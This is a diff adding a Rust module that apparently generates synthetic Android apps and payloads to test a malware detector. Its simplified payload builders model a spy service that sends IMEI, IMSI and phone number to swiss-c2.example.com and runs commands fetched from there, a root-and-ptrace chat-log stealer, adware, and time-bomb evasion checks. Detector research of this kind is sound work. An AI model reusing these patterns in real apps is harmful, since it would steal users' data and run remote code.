@@ -1,0 +1,807 @@
+//! Bytecode and payload emission helpers shared by the app factory.
+//!
+//! Registers: helpers use `v1..v9` and expect the enclosing method to have
+//! declared at least 12 registers; `v0` stays reserved for `this`.
+
+use dydroid_dex::builder::{DexBuilder, Label, MethodBuilder};
+use dydroid_dex::native::{Arch, NativeFunction, NativeInsn};
+use dydroid_dex::{AccessFlags, CmpKind, DexFile, MethodRef, NativeLibrary};
+
+use crate::plan::TriggerSet;
+
+/// The release date malware time-bombs compare against (late Sept 2016,
+/// before the corpus crawl date the device clock defaults to).
+pub const RELEASE_MS: i64 = 1_475_000_000_000;
+
+/// Identifier generator: meaningful names, or ProGuard-style letters when
+/// lexical obfuscation is on.
+#[derive(Debug)]
+pub struct Namer {
+    lexical: bool,
+    counter: usize,
+}
+
+impl Namer {
+    /// Creates a namer.
+    pub fn new(lexical: bool) -> Self {
+        Namer {
+            lexical,
+            counter: 0,
+        }
+    }
+
+    fn next_short(&mut self) -> String {
+        let mut n = self.counter;
+        self.counter += 1;
+        let mut s = String::new();
+        loop {
+            s.insert(0, (b'a' + (n % 26) as u8) as char);
+            n /= 26;
+            if n == 0 {
+                break;
+            }
+            n -= 1;
+        }
+        s
+    }
+
+    /// A class simple name.
+    pub fn class(&mut self, meaningful: &str) -> String {
+        if self.lexical {
+            // Class names conventionally start uppercase even under
+            // ProGuard ("a" is also common; mixed is fine for the test).
+            self.next_short()
+        } else {
+            meaningful.to_string()
+        }
+    }
+
+    /// A method or field name.
+    pub fn member(&mut self, meaningful: &str) -> String {
+        if self.lexical {
+            self.next_short()
+        } else {
+            meaningful.to_string()
+        }
+    }
+}
+
+/// Emits: open asset `name`, read into a buffer, write to file `dst`.
+pub fn stage_asset(m: &mut MethodBuilder, asset: &str, dst: &str) {
+    m.const_str(1, asset);
+    m.invoke_static(
+        MethodRef::new(
+            "android.content.res.AssetManager",
+            "open",
+            "(Ljava/lang/String;)Ljava/io/InputStream;",
+        ),
+        vec![1],
+    );
+    m.move_result(2);
+    m.new_instance(3, "java.io.Buffer");
+    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![3]);
+    m.invoke_virtual(
+        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
+        vec![2, 3],
+    );
+    m.new_instance(4, "java.io.FileOutputStream");
+    m.const_str(5, dst);
+    m.invoke_direct(
+        MethodRef::new(
+            "java.io.FileOutputStream",
+            "<init>",
+            "(Ljava/lang/String;)V",
+        ),
+        vec![4, 5],
+    );
+    m.invoke_virtual(
+        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
+        vec![4, 3],
+    );
+}
+
+/// Emits: fetch `url` and read the body into a buffer that is then
+/// discarded — ad-impression traffic with no flow into any file.
+pub fn fetch_and_discard(m: &mut MethodBuilder, url: &str) {
+    m.new_instance(1, "java.net.URL");
+    m.const_str(2, url);
+    m.invoke_direct(
+        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
+        vec![1, 2],
+    );
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.URL",
+            "openConnection",
+            "()Ljava/net/URLConnection;",
+        ),
+        vec![1],
+    );
+    m.move_result(2);
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.HttpURLConnection",
+            "getInputStream",
+            "()Ljava/io/InputStream;",
+        ),
+        vec![2],
+    );
+    m.move_result(3);
+    m.new_instance(4, "java.io.Buffer");
+    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![4]);
+    m.invoke_virtual(
+        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
+        vec![3, 4],
+    );
+}
+
+/// Emits: download `url` through the stream API into file `dst`.
+pub fn download_to_file(m: &mut MethodBuilder, url: &str, dst: &str) {
+    m.new_instance(1, "java.net.URL");
+    m.const_str(2, url);
+    m.invoke_direct(
+        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
+        vec![1, 2],
+    );
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.URL",
+            "openConnection",
+            "()Ljava/net/URLConnection;",
+        ),
+        vec![1],
+    );
+    m.move_result(2);
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.net.HttpURLConnection",
+            "getInputStream",
+            "()Ljava/io/InputStream;",
+        ),
+        vec![2],
+    );
+    m.move_result(3);
+    m.new_instance(4, "java.io.Buffer");
+    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![4]);
+    m.invoke_virtual(
+        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
+        vec![3, 4],
+    );
+    m.new_instance(5, "java.io.FileOutputStream");
+    m.const_str(6, dst);
+    m.invoke_direct(
+        MethodRef::new(
+            "java.io.FileOutputStream",
+            "<init>",
+            "(Ljava/lang/String;)V",
+        ),
+        vec![5, 6],
+    );
+    m.invoke_virtual(
+        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
+        vec![5, 4],
+    );
+}
+
+/// Emits: `new DexClassLoader(dex_path, odex_dir)`, load `payload_class`,
+/// instantiate it and call `run_method()`.
+pub fn dex_load_and_run(
+    m: &mut MethodBuilder,
+    dex_path: &str,
+    odex_dir: &str,
+    payload_class: &str,
+    run_method: &str,
+) {
+    m.const_str(1, dex_path);
+    m.const_str(2, odex_dir);
+    m.new_instance(3, "dalvik.system.DexClassLoader");
+    m.invoke_direct(
+        MethodRef::new(
+            "dalvik.system.DexClassLoader",
+            "<init>",
+            "(Ljava/lang/String;Ljava/lang/String;)V",
+        ),
+        vec![3, 1, 2],
+    );
+    m.const_str(4, payload_class);
+    m.invoke_virtual(
+        MethodRef::new(
+            "dalvik.system.DexClassLoader",
+            "loadClass",
+            "(Ljava/lang/String;)Ljava/lang/Class;",
+        ),
+        vec![3, 4],
+    );
+    m.move_result(5);
+    m.invoke_virtual(
+        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
+        vec![5],
+    );
+    m.move_result(6);
+    m.invoke_virtual(MethodRef::new(payload_class, run_method, "()V"), vec![6]);
+}
+
+/// Emits: `new File(path).delete()` — the ad-SDK temp-file cleanup the
+/// interception hook must defeat.
+pub fn delete_file(m: &mut MethodBuilder, path: &str) {
+    m.new_instance(1, "java.io.File");
+    m.const_str(2, path);
+    m.invoke_direct(
+        MethodRef::new("java.io.File", "<init>", "(Ljava/lang/String;)V"),
+        vec![1, 2],
+    );
+    m.invoke_virtual(MethodRef::new("java.io.File", "delete", "()Z"), vec![1]);
+}
+
+/// Emits `System.loadLibrary(name)`.
+pub fn load_library(m: &mut MethodBuilder, name: &str) {
+    m.const_str(1, name);
+    m.invoke_static(
+        MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
+        vec![1],
+    );
+}
+
+/// Emits `System.load(path)`.
+pub fn load_path(m: &mut MethodBuilder, path: &str) {
+    m.const_str(1, path);
+    m.invoke_static(
+        MethodRef::new("java.lang.System", "load", "(Ljava/lang/String;)V"),
+        vec![1],
+    );
+}
+
+/// Emits the Table VIII trigger guard: each active check conditionally
+/// jumps to the returned label, which the caller must bind where the
+/// hidden path resumes (typically right before `return-void`).
+pub fn trigger_guard(m: &mut MethodBuilder, triggers: &TriggerSet) -> Label {
+    let skip = m.label();
+    if triggers.time_bomb {
+        m.invoke_static(
+            MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
+            vec![],
+        );
+        m.move_result(8);
+        m.const_int(9, RELEASE_MS);
+        m.if_cmp(CmpKind::Lt, 8, 9, skip);
+    }
+    if triggers.airplane_check {
+        m.invoke_static(
+            MethodRef::new("android.provider.Settings", "getAirplaneMode", "()I"),
+            vec![],
+        );
+        m.move_result(8);
+        m.if_zero(CmpKind::Ne, 8, skip);
+    }
+    if triggers.needs_network {
+        m.invoke_static(
+            MethodRef::new("android.net.ConnectivityManager", "isConnected", "()Z"),
+            vec![],
+        );
+        m.move_result(8);
+        m.if_zero(CmpKind::Eq, 8, skip);
+    }
+    if triggers.location_check {
+        m.invoke_static(
+            MethodRef::new(
+                "android.location.LocationManager",
+                "isProviderEnabled",
+                "()Z",
+            ),
+            vec![],
+        );
+        m.move_result(8);
+        m.if_zero(CmpKind::Eq, 8, skip);
+    }
+    skip
+}
+
+/// Emits a reflective self-call (`Class.forName` → `getMethod` →
+/// `Method.invoke`) — the reflection-technique marker of Table VI.
+pub fn reflection_usage(m: &mut MethodBuilder, target_class: &str, target_method: &str) {
+    m.const_str(1, target_class);
+    m.invoke_static(
+        MethodRef::new(
+            "java.lang.Class",
+            "forName",
+            "(Ljava/lang/String;)Ljava/lang/Class;",
+        ),
+        vec![1],
+    );
+    m.move_result(2);
+    m.invoke_virtual(
+        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
+        vec![2],
+    );
+    m.move_result(3);
+    m.const_str(4, target_method);
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.lang.Class",
+            "getMethod",
+            "(Ljava/lang/String;)Ljava/lang/reflect/Method;",
+        ),
+        vec![2, 4],
+    );
+    m.move_result(5);
+    m.invoke_virtual(
+        MethodRef::new(
+            "java.lang.reflect.Method",
+            "invoke",
+            "(Ljava/lang/Object;)Ljava/lang/Object;",
+        ),
+        vec![5, 3],
+    );
+}
+
+// ---------------------------------------------------------------------
+// Privacy-source emission (canonical Table X type order, indices 0..18).
+// ---------------------------------------------------------------------
+
+/// Emits the source call for canonical privacy-type `index`, leaving the
+/// value in `v1`.
+pub fn privacy_source(m: &mut MethodBuilder, index: usize) {
+    let api = |m: &mut MethodBuilder, class: &str, method: &str| {
+        m.invoke_static(
+            MethodRef::new(class, method, "()Ljava/lang/String;"),
+            vec![],
+        );
+        m.move_result(1);
+    };
+    let query = |m: &mut MethodBuilder, uri: &str| {
+        m.const_str(2, uri);
+        m.invoke_static(
+            MethodRef::new(
+                "android.content.ContentResolver",
+                "query",
+                "(Ljava/lang/String;)Ljava/lang/String;",
+            ),
+            vec![2],
+        );
+        m.move_result(1);
+    };
+    match index {
+        0 => api(
+            m,
+            "android.location.LocationManager",
+            "getLastKnownLocation",
+        ),
+        1 => api(m, "android.telephony.TelephonyManager", "getDeviceId"),
+        2 => api(m, "android.telephony.TelephonyManager", "getSubscriberId"),
+        3 => api(
+            m,
+            "android.telephony.TelephonyManager",
+            "getSimSerialNumber",
+        ),
+        4 => api(m, "android.telephony.TelephonyManager", "getLine1Number"),
+        5 => api(m, "android.accounts.AccountManager", "getAccounts"),
+        6 => api(
+            m,
+            "android.content.pm.PackageManager",
+            "getInstalledApplications",
+        ),
+        7 => api(
+            m,
+            "android.content.pm.PackageManager",
+            "getInstalledPackages",
+        ),
+        8 => query(m, "content://contacts/people"),
+        9 => query(m, "content://com.android.calendar/events"),
+        10 => query(m, "content://call_log/calls"),
+        11 => query(m, "content://browser/bookmarks"),
+        12 => query(m, "content://media/audio"),
+        13 => query(m, "content://media/images"),
+        14 => query(m, "content://media/video"),
+        15 => query(m, "content://settings/global"),
+        16 => query(m, "content://mms/inbox"),
+        17 => query(m, "content://sms/inbox"),
+        _ => api(m, "android.telephony.TelephonyManager", "getDeviceId"),
+    }
+}
+
+/// Emits a `Log.d("t", v1)` sink call.
+pub fn log_sink(m: &mut MethodBuilder) {
+    m.const_str(6, "t");
+    m.invoke_static(
+        MethodRef::new(
+            "android.util.Log",
+            "d",
+            "(Ljava/lang/String;Ljava/lang/String;)I",
+        ),
+        vec![6, 1],
+    );
+}
+
+// ---------------------------------------------------------------------
+// Payload builders.
+// ---------------------------------------------------------------------
+
+/// A payload DEX with one class exposing `run()V` that leaks the given
+/// canonical privacy types to the log sink.
+pub fn privacy_payload(class_name: &str, type_indices: &[usize]) -> DexFile {
+    let mut b = DexBuilder::new();
+    let c = b.class(class_name, "java.lang.Object");
+    c.default_constructor();
+    let m = c.method("run", "()V", AccessFlags::PUBLIC);
+    m.registers(10);
+    for &idx in type_indices {
+        privacy_source(m, idx);
+        log_sink(m);
+    }
+    m.ret_void();
+    b.build()
+}
+
+/// The Google-Ads-like payload: reads device settings only (Table X's
+/// dominant Settings row).
+pub fn ad_payload(class_name: &str) -> DexFile {
+    privacy_payload(class_name, &[15])
+}
+
+/// Swiss-code-monkeys payload: a dropper that starts a spy service which
+/// exfiltrates IMEI / phone number / IMSI and executes a remote command.
+/// `variant` only changes internal class names and constants — the ACFG
+/// structure is the family signature.
+pub fn swiss_payload(variant: usize) -> (DexFile, String) {
+    let pkg = format!("com.swisscm.v{variant}");
+    let dropper = format!("{pkg}.Dropper");
+    let service = format!("{pkg}.SpyService");
+    let mut b = DexBuilder::new();
+    {
+        let c = b.class(&dropper, "java.lang.Object");
+        c.default_constructor();
+        let m = c.method("run", "()V", AccessFlags::PUBLIC);
+        m.registers(10);
+        m.const_str(1, &service);
+        m.invoke_static(
+            MethodRef::new(
+                "android.content.Context",
+                "startService",
+                "(Ljava/lang/String;)V",
+            ),
+            vec![1],
+        );
+        m.ret_void();
+    }
+    {
+        let c = b.class(&service, "android.app.Service");
+        c.default_constructor();
+        let m = c.method("onStart", "()V", AccessFlags::PUBLIC);
+        m.registers(12);
+        // Harvest identifiers.
+        m.invoke_static(
+            MethodRef::new(
+                "android.telephony.TelephonyManager",
+                "getDeviceId",
+                "()Ljava/lang/String;",
+            ),
+            vec![],
+        );
+        m.move_result(1);
+        m.invoke_static(
+            MethodRef::new(
+                "android.telephony.TelephonyManager",
+                "getLine1Number",
+                "()Ljava/lang/String;",
+            ),
+            vec![],
+        );
+        m.move_result(2);
+        m.invoke_static(
+            MethodRef::new(
+                "android.telephony.TelephonyManager",
+                "getSubscriberId",
+                "()Ljava/lang/String;",
+            ),
+            vec![],
+        );
+        m.move_result(3);
+        m.invoke_virtual(
+            MethodRef::new(
+                "java.lang.String",
+                "concat",
+                "(Ljava/lang/String;)Ljava/lang/String;",
+            ),
+            vec![1, 2],
+        );
+        m.move_result(4);
+        m.invoke_virtual(
+            MethodRef::new(
+                "java.lang.String",
+                "concat",
+                "(Ljava/lang/String;)Ljava/lang/String;",
+            ),
+            vec![4, 3],
+        );
+        m.move_result(4);
+        // Exfiltrate.
+        m.new_instance(5, "java.net.URL");
+        m.const_str(6, "http://swiss-c2.example.com/upload");
+        m.invoke_direct(
+            MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
+            vec![5, 6],
+        );
+        m.invoke_virtual(
+            MethodRef::new(
+                "java.net.URL",
+                "openConnection",
+                "()Ljava/net/URLConnection;",
+            ),
+            vec![5],
+        );
+        m.move_result(7);
+        m.invoke_virtual(
+            MethodRef::new(
+                "java.net.HttpURLConnection",
+                "getOutputStream",
+                "()Ljava/io/OutputStream;",
+            ),
+            vec![7],
+        );
+        m.move_result(8);
+        m.invoke_virtual(
+            MethodRef::new("java.io.OutputStream", "write", "(Ljava/lang/String;)V"),
+            vec![8, 4],
+        );
+        // Fetch and execute a remote command.
+        m.new_instance(5, "java.net.URL");
+        m.const_str(6, "http://swiss-c2.example.com/cmd");
+        m.invoke_direct(
+            MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
+            vec![5, 6],
+        );
+        m.invoke_virtual(
+            MethodRef::new(
+                "java.net.URL",
+                "openConnection",
+                "()Ljava/net/URLConnection;",
+            ),
+            vec![5],
+        );
+        m.move_result(7);
+        m.invoke_virtual(
+            MethodRef::new(
+                "java.net.HttpURLConnection",
+                "getInputStream",
+                "()Ljava/io/InputStream;",
+            ),
+            vec![7],
+        );
+        m.move_result(9);
+        m.new_instance(10, "java.io.Buffer");
+        m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![10]);
+        m.invoke_virtual(
+            MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
+            vec![9, 10],
+        );
+        m.invoke_virtual(
+            MethodRef::new("java.io.Buffer", "toString", "()Ljava/lang/String;"),
+            vec![10],
+        );
+        m.move_result(11);
+        m.invoke_static(
+            MethodRef::new("java.lang.Runtime", "exec", "(Ljava/lang/String;)V"),
+            vec![11],
+        );
+        m.ret_void();
+    }
+    (b.build(), dropper)
+}
+
+/// Airpush/minimob adware payload: push notification, pin a shortcut,
+/// redirect the browser homepage.
+pub fn airpush_payload(variant: usize) -> (DexFile, String) {
+    let cls = format!("com.airpush.minimob.v{variant}.AdPusher");
+    let mut b = DexBuilder::new();
+    let c = b.class(&cls, "java.lang.Object");
+    c.default_constructor();
+    let m = c.method("run", "()V", AccessFlags::PUBLIC);
+    m.registers(10);
+    m.const_str(1, "Hot game! Install now!");
+    m.invoke_static(
+        MethodRef::new(
+            "android.app.NotificationManager",
+            "notify",
+            "(Ljava/lang/String;)V",
+        ),
+        vec![1],
+    );
+    m.const_str(1, "FreeCoins");
+    m.invoke_static(
+        MethodRef::new(
+            "android.content.pm.ShortcutManager",
+            "requestPinShortcut",
+            "(Ljava/lang/String;)V",
+        ),
+        vec![1],
+    );
+    m.const_str(1, "http://ads.minimob.example.com/home");
+    m.invoke_static(
+        MethodRef::new(
+            "android.provider.Browser",
+            "setHomepage",
+            "(Ljava/lang/String;)V",
+        ),
+        vec![1],
+    );
+    m.ret_void();
+    (b.build(), cls)
+}
+
+/// Chathook-ptrace native payload: obtain root, ptrace the chat apps,
+/// hook the chat window, exfiltrate the history. The `variant` alternates
+/// the primary victim between QQ and WeChat.
+pub fn chathook_payload(soname: &str, variant: usize) -> NativeLibrary {
+    let victim = if variant.is_multiple_of(2) {
+        "com.tencent.mobileqq"
+    } else {
+        "com.tencent.mm"
+    };
+    let code = vec![
+        NativeInsn::Syscall {
+            name: "setuid".to_string(),
+            arg: None,
+        },
+        NativeInsn::Branch {
+            cond: dydroid_dex::NativeCond::Zero,
+            reg: 0,
+            target: 7,
+        },
+        NativeInsn::Syscall {
+            name: "ptrace".to_string(),
+            arg: Some(victim.to_string()),
+        },
+        NativeInsn::Syscall {
+            name: "hook".to_string(),
+            arg: Some("chat_window".to_string()),
+        },
+        NativeInsn::Syscall {
+            name: "connect".to_string(),
+            arg: Some("chathook-c2.example.com".to_string()),
+        },
+        NativeInsn::Syscall {
+            name: "send".to_string(),
+            arg: Some("chathook-c2.example.com:chatlog".to_string()),
+        },
+        NativeInsn::Ret,
+        NativeInsn::Ret,
+    ];
+    NativeLibrary::new(soname, Arch::Arm)
+        .with_function(NativeFunction::exported("JNI_OnLoad", code))
+}
+
+/// A benign native library with a trivial `JNI_OnLoad`.
+pub fn trivial_native(soname: &str) -> NativeLibrary {
+    NativeLibrary::new(soname, Arch::Arm).with_function(NativeFunction::exported(
+        "JNI_OnLoad",
+        vec![NativeInsn::Const { dst: 0, value: 1 }, NativeInsn::Ret],
+    ))
+}
+
+/// A trivial benign payload DEX exposing `run()V`.
+pub fn trivial_payload(class_name: &str) -> DexFile {
+    let mut b = DexBuilder::new();
+    let c = b.class(class_name, "java.lang.Object");
+    c.default_constructor();
+    let m = c.method("run", "()V", AccessFlags::PUBLIC);
+    m.registers(4);
+    m.const_int(1, 1);
+    m.ret_void();
+    b.build()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn namer_modes() {
+        let mut plain = Namer::new(false);
+        assert_eq!(plain.class("MainActivity"), "MainActivity");
+        assert_eq!(plain.member("loadContent"), "loadContent");
+        let mut obf = Namer::new(true);
+        assert_eq!(obf.class("MainActivity"), "a");
+        assert_eq!(obf.member("loadContent"), "b");
+        // Exhaust a cycle to check the base-26 rollover.
+        for _ in 0..24 {
+            obf.member("x");
+        }
+        assert_eq!(obf.member("y"), "aa");
+    }
+
+    #[test]
+    fn payloads_parse_and_validate() {
+        let (dex, entry) = swiss_payload(3);
+        assert!(dex.validate().is_ok());
+        assert!(dex.class(&entry).is_some());
+        let (dex, entry) = airpush_payload(1);
+        assert!(dex.validate().is_ok());
+        assert!(dex.class(&entry).is_some());
+        let lib = chathook_payload("libch.so", 0);
+        assert!(NativeLibrary::parse(&lib.to_bytes()).is_ok());
+        assert!(trivial_payload("com.x.P").validate().is_ok());
+    }
+
+    #[test]
+    fn swiss_variants_share_structure() {
+        // The MAIL translation must be invariant across variants (the
+        // detector depends on it).
+        let (a, _) = swiss_payload(1);
+        let (b, _) = swiss_payload(2);
+        let mail_a: Vec<Vec<String>> = a
+            .methods()
+            .map(|(_, m)| m.code.iter().map(|i| format!("{i:?}")).collect())
+            .collect();
+        // Structures must have the same length per method.
+        let mail_b: Vec<Vec<String>> = b
+            .methods()
+            .map(|(_, m)| m.code.iter().map(|i| format!("{i:?}")).collect())
+            .collect();
+        assert_eq!(mail_a.len(), mail_b.len());
+        for (x, y) in mail_a.iter().zip(&mail_b) {
+            assert_eq!(x.len(), y.len());
+        }
+    }
+
+    #[test]
+    fn privacy_payload_has_one_snippet_per_type() {
+        let dex = privacy_payload("com.sdk.C", &[0, 1, 17]);
+        assert!(dex.validate().is_ok());
+        let run = dex
+            .class("com.sdk.C")
+            .unwrap()
+            .method_by_name("run")
+            .unwrap();
+        let sinks = run
+            .code
+            .iter()
+            .filter(|i| {
+                i.invoked_method()
+                    .map(|m| m.class == "android.util.Log")
+                    .unwrap_or(false)
+            })
+            .count();
+        assert_eq!(sinks, 3);
+    }
+
+    #[test]
+    fn trigger_guard_emits_expected_probes() {
+        let mut b = DexBuilder::new();
+        let c = b.class("com.x.G", "java.lang.Object");
+        let m = c.method("go", "()V", AccessFlags::PUBLIC);
+        m.registers(12);
+        let skip = trigger_guard(
+            m,
+            &TriggerSet {
+                time_bomb: true,
+                airplane_check: true,
+                needs_network: true,
+                location_check: true,
+            },
+        );
+        m.const_int(1, 1);
+        m.bind(skip);
+        m.ret_void();
+        let dex = b.build();
+        assert!(dex.validate().is_ok());
+        let code = &dex
+            .class("com.x.G")
+            .unwrap()
+            .method_by_name("go")
+            .unwrap()
+            .code;
+        let calls: Vec<String> = code
+            .iter()
+            .filter_map(|i| i.invoked_method().map(|m| m.name.clone()))
+            .collect();
+        assert_eq!(
+            calls,
+            vec![
+                "currentTimeMillis",
+                "getAirplaneMode",
+                "isConnected",
+                "isProviderEnabled"
+            ]
+        );
+    }
+}
